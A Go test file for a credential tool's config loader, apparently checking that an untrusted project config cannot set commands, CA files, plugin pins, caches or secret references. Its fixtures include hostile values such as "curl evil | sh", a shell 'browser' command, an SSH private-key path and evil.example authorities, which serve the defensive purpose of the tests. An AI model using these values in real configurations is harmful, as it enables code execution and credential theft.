package config

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// TestProjectFileAttacks: each way a cloned repository's .credhost.toml
// tried to reach the user's secrets or run code (issue 18) is refused,
// naming the file:line and key, and nothing of it is applied.
func TestProjectFileAttacks(t *testing.T) {
	user := `[profiles.laptop]
authority = "https://login.microsoftonline.com/contoso.onmicrosoft.com"
client_id = "22222222-2222-4222-8222-222222222222"
chain = ["clientcreds", "authcode"]
[profiles.laptop.clientcreds]
client_secret = "env:MY_SECRET"
[plugins.pins]
clientcreds = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
`
	tests := []struct {
		name, project string
		want          []string // PROJ is the project file
	}{
		{"[defaults] ca_file", "[defaults]\nca_file = \"evil-ca.pem\"\n",
			[]string{"PROJ:2:1: defaults.ca_file: a project file", "they apply to your own profiles too"}},
		{"[defaults] authority", "[defaults]\nauthority = \"https://evil.example/t\"\n",
			[]string{"PROJ:2:1: defaults.authority: a project file"}},
		{"a user profile's authority", "[profiles.laptop]\nauthority = \"https://evil.example/t\"\n",
			[]string{`PROJ:2:1: profiles.laptop.authority: a project file`, `cannot change profile "laptop", which USER:1:1 defines`}},
		{"a user profile's authority, dotted", "profiles.laptop.authority = \"https://evil.example/t\"\n",
			[]string{`PROJ:1:17: profiles.laptop.authority: a project file`}},
		{"a user profile's browser", "[profiles.laptop.authcode]\nbrowser = \"sh -c 'touch /tmp/pwned'\"\n",
			[]string{`PROJ:2:1: profiles.laptop.authcode.browser: a project file`}},
		{"a browser in a profile of its own", "[profiles.app]\nchain = [\"authcode\"]\n[profiles.app.authcode]\nbrowser = \"sh -c 'touch /tmp/pwned'\"\n",
			[]string{`PROJ:4:1: profiles.app.authcode.browser: a project file`, "cannot set a command (browser): it would run as you"}},
		{"a command in a profile of its own", "[profiles.app.clientcreds]\nclient_assertion_command = \"curl evil | sh\"\n",
			[]string{`PROJ:2:1: profiles.app.clientcreds.client_assertion_command: a project file`, "cannot set a command"}},
		{"a pin replacing the user's", "[plugins.pins]\nclientcreds = \"sha256:fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210\"\n",
			[]string{`PROJ:2:1: plugins.pins.clientcreds: a project file`, "they choose which code runs"}},
		{"a plugin dir", "plugins = { dir = \"evil\" }\n", []string{`PROJ:1:13: plugins.dir: a project file`}},
		{"a cache", "[cache]\npath = \"tokens.bin\"\n", []string{`PROJ:2:1: cache.path: a project file`}},
		{"a cache backend", "[cache]\nbackend = \"memory\"\n", []string{`PROJ:2:1: cache.backend: a project file`}},
		{"a backend's path", "[cache.file]\npath = \"tokens.bin\"\n", []string{`PROJ:2:1: cache.file.path: a project file`, "where your tokens and their key are"}},
		{"a backend's secret", "[cache.redis]\nkey = \"env:MY_SECRET\"\n", []string{`PROJ:2:1: cache.redis.key: a project file`}},
		{"trusting itself", "[projects]\ntrusted = [\"*\"]\n", []string{`PROJ:2:1: projects.trusted: a project file`}},
		{"a profile ca_file", "[profiles.app]\nca_file = \"evil-ca.pem\"\n", []string{`PROJ:2:1: profiles.app.ca_file: a project file`, "could impersonate any IdP"}},
		{"an env: reference", "[profiles.app.devicecode]\nlogin_hint = \"env:MY_SECRET\"\n",
			[]string{`PROJ:2:1: profiles.app.devicecode.login_hint: a project file`, "cannot reference the environment or files"}},
		{"a file: secret", "[profiles.app.clientcreds]\ncertificate = \"file:/home/me/.ssh/id_rsa\"\n",
			[]string{`PROJ:2:1: profiles.app.clientcreds.certificate: a project file`, "cannot name a file"}},
		{"an inline secret", "[profiles.app.ropc]\npassword = \"hunter2\"\n",
			[]string{`PROJ:2:1: profiles.app.ropc.password: a project file`, "cannot hold credentials"}},
		{"a federated token file", "[profiles.app.clientcreds]\nfederated_token_file = \"/var/run/secrets/token\"\n",
			[]string{`PROJ:2:1: profiles.app.clientcreds.federated_token_file: a project file`}},
		{"a third-party setting", "[profiles.app.myflow]\nendpoint = \"https://evil.example\"\n",
			[]string{`PROJ:2:1: profiles.app.myflow.endpoint: a project file`, "not on the list"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l := newLayout(t, "", user, tt.project)
			f, err := LoadLayers(l.options(nil))
			if err == nil {
				t.Fatalf("accepted; laptop = %+v, pins %v", f.Profiles["laptop"], f.Plugins.Pins)
			}
			var list Errors
			if !errors.As(err, &list) {
				t.Errorf("%T is not Errors", err)
			}
			for _, w := range tt.want {
				w = strings.NewReplacer("PROJ", l.project, "USER", l.user).Replace(w)
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error lacks %q:\n%v", w, err)
				}
			}
		})
	}
}

// TestProjectFileCacheSettingByTag: a project file may set exactly the
// backend settings their backend tags project (the fixture's name), with
// no list of them here.
func TestProjectFileCacheSettingByTag(t *testing.T) {
	l := newLayout(t, "", "[cache]\nbackend = \"memstore\"\n", "[cache.memstore]\nname = \"proj\"\n")
	f, err := LoadLayers(l.options(nil))
	if err != nil {
		t.Fatal(err)
	}
	if v := f.Cache.Settings()["name"]; v.Raw != "proj" || v.Origin.File != l.project {
		t.Fatalf("name = %+v", v)
	}
	var shown bool
	for _, s := range f.Effective() {
		shown = shown || (s.Key == "cache.memstore.name" && s.Value == "proj")
	}
	if !shown {
		t.Errorf("config show lacks cache.memstore.name: %+v", f.Effective())
	}
}

// TestProjectProfileGetsNoSecrets: a profile the project defines keeps
// the authority the project chose, so the AZURE_* credential variables
// are not applied to it; a user profile still gets them.
func TestProjectProfileGetsNoSecrets(t *testing.T) {
	user := "[profiles.laptop]\nauthority = \"https://login.microsoftonline.com/contoso.onmicrosoft.com\"\nclient_id = \"22222222-2222-4222-8222-222222222222\"\nchain = [\"clientcreds\"]\n"
	project := "[profiles.app]\nauthority = \"https://evil.example/t\"\nclient_id = \"33333333-3333-4333-8333-333333333333\"\nchain = [\"clientcreds\"]\n[profiles.app.devicecode]\nlogin_hint = \"dev@contoso.com\"\n"
	l := newLayout(t, "", user, project)
	f, err := LoadLayers(l.options(map[string]string{
		EnvClientSecret: "s3cret", EnvClientCertificatePath: "/k.pem", EnvClientCertificatePassword: "pw", EnvFederatedTokenFile: "/t",
	}))
	if err != nil {
		t.Fatal(err)
	}
	app, laptop := f.Profiles["app"], f.Profiles["laptop"]
	if got := app.Flows[FlowClientCreds]; len(got) != 0 {
		t.Errorf("the project's profile got credentials from the environment: %v", got)
	}
	if got := app.Flows["devicecode"]["login_hint"].Raw; got != "dev@contoso.com" {
		t.Errorf("login_hint %q", got)
	}
	if got := laptop.Flows[FlowClientCreds][KeyClientSecret].Raw; got != "env:"+EnvClientSecret {
		t.Errorf("the user's profile lost AZURE_CLIENT_SECRET: %q", got)
	}
	// Applying the environment again (as an embedder may) changes nothing.
	if err := app.ApplyEnv(envMap(map[string]string{EnvClientSecret: "s3cret"})); err != nil || len(app.Flows[FlowClientCreds]) != 0 {
		t.Errorf("ApplyEnv: %v, %v", err, app.Flows[FlowClientCreds])
	}
}

// TestProjectTrust: a project file is read only from a directory the
// user or system file trusts; otherwise it is listed as untrusted, and
// asking for one of its profiles says how to trust it.
func TestProjectTrust(t *testing.T) {
	user := "[profiles.laptop]\nauthority = \"https://login.microsoftonline.com/t\"\nclient_id = \"22222222-2222-4222-8222-222222222222\"\nchain = [\"devicecode\"]\n"
	project := "[profiles.app]\nauthority = \"https://login.microsoftonline.com/t\"\nclient_id = \"33333333-3333-4333-8333-333333333333\"\nchain = [\"devicecode\"]\n[profiles.app.match]\nos = [\"linux\", \"darwin\", \"windows\"]\n"

	l := newUntrustedLayout(t, "", user, project)
	f, err := LoadLayers(l.options(nil))
	if err != nil {
		t.Fatal(err)
	}
	if last := f.Layers[len(f.Layers)-1]; !reflect.DeepEqual(last, Layer{Kind: LayerProject, Path: l.project, Untrusted: true}) {
		t.Errorf("layers %+v", f.Layers)
	}
	if _, ok := f.Profiles["app"]; ok {
		t.Error("an untrusted project file was read")
	}
	for _, st := range f.Effective() {
		if st.Key == "projects.trusted" {
			t.Errorf("config show lists a trusted project: %+v", st)
		}
	}
	_, err = f.Profile("app")
	if !errors.Is(err, ErrNoProfile) || !strings.Contains(err.Error(), "[projects] trusted = [\""+filepath.Dir(l.project)+"\"]") {
		t.Errorf("err = %v", err)
	}

	for _, tt := range []struct {
		name, system, user string // PROJ is the project's directory
		trusted            bool
	}{
		{"user trusts the directory", "", "[projects]\ntrusted = [\"PROJ\"]\n", true},
		{"user trusts it through ~", "", "[projects]\ntrusted = [\"~/src/app\"]\n", true},
		{"system trusts it", "[projects]\ntrusted = [\"PROJ\"]\n", "", true},
		{"user trusts everything", "", "[projects]\ntrusted = [\"*\"]\n", true},
		{"a parent is not the directory", "", "[projects]\ntrusted = [\"PROJ/..\"]\n", false},
		{"another directory", "", "[projects]\ntrusted = [\"PROJ/../other\"]\n", false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			l := newUntrustedLayout(t, "", "", project)
			r := strings.NewReplacer("PROJ", filepath.Dir(l.project))
			writeFile(t, filepath.Dir(l.system), filepath.Base(l.system), r.Replace(tt.system))
			writeFile(t, filepath.Dir(l.user), filepath.Base(l.user), user+r.Replace(tt.user))
			f, err := LoadLayers(l.options(nil))
			if err != nil {
				t.Fatal(err)
			}
			if _, ok := f.Profiles["app"]; ok != tt.trusted {
				t.Errorf("project read: %v, want %v (layers %+v)", ok, tt.trusted, f.Layers)
			}
			var shown []string
			for _, st := range f.Effective() {
				if st.Key == "projects.trusted" && st.Origin.Line > 0 {
					shown = append(shown, st.Value.(string))
				}
			}
			if len(shown) != 1 {
				t.Errorf("config show lists trusted projects %v, want the one entry", shown)
			}
		})
	}

	// [projects] cannot be set by a flag, and its entries are absolute.
	l = newUntrustedLayout(t, "", user+"[projects]\ntrusted = [\"src/app\", 3]\n", "")
	o := l.options(nil)
	o.Flags = []FlagSetting{{Flag: "--set", TOML: `projects.trusted = ["*"]`}}
	_, err = LoadLayers(o)
	for _, w := range []string{l.user + ":6:12: projects.trusted: \"src/app\" is not an absolute directory", l.user + ":6:23: projects.trusted: expected an array of directories, but an element is an integer", "flag --set: projects: [projects] is read from the system and user files only"} {
		if err == nil || !strings.Contains(err.Error(), w) {
			t.Errorf("error lacks %q:\n%v", w, err)
		}
	}
}

// TestTrustProject: TrustProject appends [projects] to the user file (or
// creates it), after which LoadLayers reads the project; trusting again
// changes nothing, and a file that has [projects] already is left for
// the user to edit.
func TestTrustProject(t *testing.T) {
	user := "[profiles.laptop]\nauthority = \"https://login.microsoftonline.com/t\"\nclient_id = \"22222222-2222-4222-8222-222222222222\"\nchain = [\"devicecode\"]" // no final newline
	project := "[profiles.app]\nauthority = \"https://login.microsoftonline.com/t\"\nclient_id = \"33333333-3333-4333-8333-333333333333\"\nchain = [\"devicecode\"]\n"
	l := newUntrustedLayout(t, "", user, project)
	proj := filepath.Dir(l.project)
	if err := TrustProject(l.user, proj); err != nil {
		t.Fatal(err)
	}
	f, err := LoadLayers(l.options(nil))
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := f.Profiles["app"]; !ok {
		t.Fatalf("the project is not read after TrustProject: %+v", f.Layers)
	}
	before, _ := os.ReadFile(l.user)
	if err := TrustProject(l.user, proj+"/."); err != nil {
		t.Fatal(err)
	}
	if after, _ := os.ReadFile(l.user); string(after) != string(before) {
		t.Errorf("trusting again changed the file:\n%s", after)
	}
	err = TrustProject(l.user, l.home)
	if err == nil || !strings.Contains(err.Error(), l.user+":6:1: [projects] is there already: add \""+l.home+"\"") {
		t.Errorf("err = %v", err)
	}
	if err := TrustProject(l.user, l.project); err == nil || !strings.Contains(err.Error(), "not a directory") {
		t.Errorf("a file: %v", err)
	}

	fresh := filepath.Join(t.TempDir(), "credhost", "config.toml")
	if err := os.MkdirAll(filepath.Dir(fresh), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := TrustProject(fresh, proj); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(fresh)
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("created %v, %v", fi, err)
	}
	parsed, err := Load(fresh)
	if err != nil || len(parsed.Projects.Trusted) != 1 || parsed.Projects.Trusted[0].Raw != proj {
		t.Fatalf("created file: %+v, %v", parsed, err)
	}
}
